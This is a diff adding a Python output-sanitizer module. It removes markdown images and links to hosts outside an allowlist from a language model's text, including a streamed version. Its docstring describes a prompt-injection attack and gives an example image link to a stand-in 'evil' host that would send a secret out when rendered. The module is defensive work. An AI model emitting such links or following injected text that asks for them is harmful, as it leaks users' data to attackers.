@@ -1,0 +1,75 @@
+"""Output safety: the model's text stays text; images and links are kept only for allowed hosts.
+
+A prompt-injected passage could make the model emit `![x](https://evil/?q=secret)` (which a
+markdown renderer would fetch) or a link to a phishing page. Markdown images and links whose
+host is not on the allowlist (`LINK_ALLOWLIST`, empty by default) are removed; a removed link
+keeps its text. `StreamSanitizer` does the same on a token stream, holding back only the
+characters that may still turn into a link.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterable
+from urllib.parse import urlsplit
+
+_LINK = re.compile(r'(!?)\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+"[^"\n]*")?\s*\)')
+_AUTOLINK = re.compile(r"<((?:https?|ftp|data|javascript):[^>\s]*)>", re.I)
+# A tail that could still grow into a markdown link or image: hold it back while streaming.
+_OPEN_TAIL = re.compile(r"!?(\[[^\]\n]*(\](\([^)\n]*)?)?)?$")
+_MAX_HELD = 500
+
+
+def _allowed(url: str, hosts: frozenset[str]) -> bool:
+    parts = urlsplit(url)
+    if parts.scheme.lower() not in ("http", "https"):
+        return False
+    host = (parts.hostname or "").lower()
+    return any(host == h or host.endswith("." + h) for h in hosts)
+
+
+def sanitize(text: str, allowed_hosts: Iterable[str] = ()) -> str:
+    """Remove images and links to hosts not in `allowed_hosts` (a link keeps its text)."""
+    hosts = frozenset(h.lower().strip() for h in allowed_hosts if h.strip())
+
+    def replace(match: re.Match[str]) -> str:
+        is_image, label, url = match.group(1), match.group(2), match.group(3)
+        if _allowed(url, hosts):
+            return match.group(0)
+        return "" if is_image else label
+
+    text = _LINK.sub(replace, text)
+    return _AUTOLINK.sub(lambda m: m.group(0) if _allowed(m.group(1), hosts) else "", text)
+
+
+class StreamSanitizer:
+    """Sanitize text arriving in pieces; `feed` returns what is safe to send now."""
+
+    def __init__(self, allowed_hosts: Iterable[str] = ()) -> None:
+        self._hosts = tuple(allowed_hosts)
+        self._held = ""
+
+    def feed(self, piece: str) -> str:
+        self._held += piece
+        start = self._open_tail_start()
+        if start is None:
+            out, self._held = self._held, ""
+        else:
+            out, self._held = self._held[:start], self._held[start:]
+        return sanitize(out, self._hosts)
+
+    def flush(self) -> str:
+        out, self._held = self._held, ""
+        return sanitize(out, self._hosts)
+
+    def _open_tail_start(self) -> int | None:
+        # The last "[" (or "![") that has not been closed into a complete link yet.
+        index = self._held.rfind("[")
+        if index < 0 or len(self._held) - index > _MAX_HELD:
+            return None
+        if index > 0 and self._held[index - 1] == "!":
+            index -= 1
+        tail = self._held[index:]
+        if _LINK.match(tail) or not _OPEN_TAIL.fullmatch(tail):
+            return None
+        return index
